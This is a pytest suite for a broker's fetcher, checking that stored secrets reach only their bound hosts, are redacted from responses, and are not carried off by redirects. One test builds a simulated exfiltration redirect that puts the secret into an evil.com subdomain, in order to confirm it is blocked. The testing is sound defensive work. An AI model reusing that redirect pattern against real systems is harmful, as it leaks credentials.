"""Secrets reach the hosts that they are bound to, and nobody else: no script, no log."""

from __future__ import annotations

import asyncio
import base64
import json
import time
from urllib.parse import quote

import pytest
from servers import Answer, Asked, Names, Site, answering, policy, run

from actionsd_broker.fetch.fetcher import Fetcher
from actionsd_broker.fetch.hosts import read_pattern
from actionsd_broker.fetch.limits import FetchTable
from actionsd_broker.fetch.outcomes import (
    Denial,
    FetchDenied,
    FetchRequest,
    FetchResponse,
    Outcome,
)
from actionsd_broker.fetch.vault import Secret, Vault

VALUE = 'Tok/4f9"ab+23c'
WORDS = "[secret crm removed]"
VAULT = Vault([Secret("crm", VALUE, (read_pattern("127.0.0.1"),))])
NAMES = Names(free_test="127.0.0.1")


def echo(head: str, body: str) -> Answer:
    """Answer with what was asked, in some form: `{}` takes the header X-A, or the body."""

    async def answer(asked: Asked, writer: asyncio.StreamWriter) -> None:
        text = asked.headers.get("x-a", "") or asked.body.decode()
        header = head.format(text)
        content = body.format(text).encode()
        writer.write(
            f"HTTP/1.1 200 OK\r\n{header}Content-Length: {len(content)}\r\n\r\n".encode() + content
        )

    return answer


async def fetch(site: Site, request: FetchRequest, *others: Site) -> Outcome:
    fetcher = Fetcher(FetchTable(), VAULT, NAMES)
    rules = [each.rule(host) for each in (site, *others) for host in ("127.0.0.1", "free.test")]
    outcome = await fetcher.fetch(request, policy(*rules), time.monotonic() + 10)
    assert VALUE not in repr(outcome)
    if isinstance(outcome, FetchResponse):
        assert VALUE not in f"{outcome.headers}"
        assert VALUE.encode() not in outcome.body
    return outcome


def test_secret_is_sent_in_a_header_and_removed_from_the_echo() -> None:
    async def scenario() -> None:
        async with Site(echo("X-Echo: {}\r\n", "got {}")) as site:
            request = FetchRequest("GET", site.url(), (("X-A", "Bearer {{secret:crm}}"),))
            outcome = await fetch(site, request)
            assert isinstance(outcome, FetchResponse)
            assert site.asked[0].headers["x-a"] == f"Bearer {VALUE}"
            assert dict(outcome.headers)["X-Echo"] == f"Bearer {WORDS}"
            assert outcome.body.decode() == f"got Bearer {WORDS}"

    run(scenario())


def test_secret_is_sent_in_a_body_as_one_value() -> None:
    async def scenario() -> None:
        async with Site(echo("", "{}")) as site:
            request = FetchRequest(
                "POST",
                site.url(),
                (("Content-Type", "application/json"),),
                b'{"token": "{{secret:crm}}"}',
            )
            outcome = await fetch(site, request)
            assert json.loads(site.asked[0].body) == {"token": VALUE}
            assert isinstance(outcome, FetchResponse)
            assert json.loads(outcome.body) == {"token": WORDS}

    run(scenario())


@pytest.mark.parametrize(
    "form",
    [
        VALUE,
        json.dumps(VALUE)[1:-1],
        quote(VALUE, safe=""),
        base64.b64encode(f"user:{VALUE}".encode()).decode(),
        VALUE.encode().hex(),
    ],
)
def test_secret_that_was_not_sent_is_removed_from_its_hosts_responses_too(form: str) -> None:
    async def scenario() -> None:
        async with Site(answering(f"stored: {form}", 200, (f"X-Old: {form}",))) as site:
            outcome = await fetch(site, FetchRequest("GET", site.url()))
            assert isinstance(outcome, FetchResponse)
            assert WORDS.encode() in outcome.body
            assert WORDS in dict(outcome.headers)["X-Old"]

    run(scenario())


@pytest.mark.parametrize("name", ["crm", "unknown", "cr m", ""])
def test_secret_is_refused_for_another_host_and_nothing_is_sent(name: str) -> None:
    async def scenario() -> None:
        async with Site() as site:
            placeholder = "{{secret:" + name + "}}"
            for request in (
                FetchRequest("GET", site.url(host="free.test"), (("X-A", placeholder),)),
                FetchRequest("POST", site.url(host="free.test"), (), placeholder.encode()),
            ):
                outcome = await fetch(site, request)
                assert isinstance(outcome, FetchDenied)
                assert outcome.denial is Denial.SECRET
            assert site.connections == 0

    run(scenario())


def test_secret_in_a_url_is_refused() -> None:
    async def scenario() -> None:
        async with Site() as site:
            outcome = await fetch(site, FetchRequest("GET", site.url("/?k={{secret:crm}}")))
            assert isinstance(outcome, FetchDenied)
            assert outcome.denial is Denial.MALFORMED

    run(scenario())


def test_header_with_a_secret_does_not_follow_to_another_host() -> None:
    async def scenario() -> None:
        async with Site() as other:
            place = f"Location: {other.url(host='free.test')}"
            async with Site(answering(b"", 307, (place,))) as site:
                headers = (("Accept", "{{secret:crm}}"), ("Accept-Language", "de"))
                outcome = await fetch(site, FetchRequest("GET", site.url(), headers), other)
                assert isinstance(outcome, FetchResponse)
                assert site.asked[0].headers["accept"] == VALUE
                assert "accept" not in other.asked[0].headers
                assert other.asked[0].headers["accept-language"] == "de"

    run(scenario())


def test_body_with_a_secret_does_not_follow_to_another_host() -> None:
    async def scenario() -> None:
        async with Site() as other:
            place = f"Location: {other.url(host='free.test')}"
            async with Site(answering(b"", 307, (place,))) as site:
                request = FetchRequest("POST", site.url(), (), b"{{secret:crm}}")
                outcome = await fetch(site, request, other)
                assert isinstance(outcome, FetchDenied)
                assert outcome.denial is Denial.SECRET
                assert "hop 2" in outcome.explanation
                assert other.connections == 0

    run(scenario())


def test_secret_that_a_redirect_carries_off_comes_back_neither_to_script_nor_log() -> None:
    async def scenario() -> None:
        async def redirect(asked: Asked, writer: asyncio.StreamWriter) -> None:
            value = asked.body.decode()
            location = f"https://x{value.replace('/', '').replace(chr(34), '')}.evil.com/"
            await answering(b"", 302, (f"Location: {location}",))(asked, writer)

        plain = "Tok4f9ab23c"
        vault = Vault([Secret("crm", plain, (read_pattern("127.0.0.1"),))])
        async with Site(redirect) as site:
            request = FetchRequest("POST", site.url(), (), b"{{secret:crm}}")
            outcome = await Fetcher(FetchTable(), vault, NAMES).fetch(
                request, policy(site.rule()), time.monotonic() + 10
            )
            assert isinstance(outcome, FetchDenied)
            assert site.asked[0].body.decode() == plain
            assert plain.lower() not in (outcome.reason + outcome.explanation).lower()
            assert WORDS in outcome.explanation

    run(scenario())


def test_new_vault_holds_for_the_next_fetch() -> None:
    async def scenario() -> None:
        async with Site() as site:
            fetcher = Fetcher(FetchTable(), Vault(), NAMES)
            request = FetchRequest("GET", site.url(), (("X-A", "{{secret:crm}}"),))
            until = time.monotonic() + 10
            assert isinstance(await fetcher.fetch(request, policy(site.rule()), until), FetchDenied)
            fetcher.vault = VAULT
            assert isinstance(
                await fetcher.fetch(request, policy(site.rule()), until), FetchResponse
            )

    run(scenario())
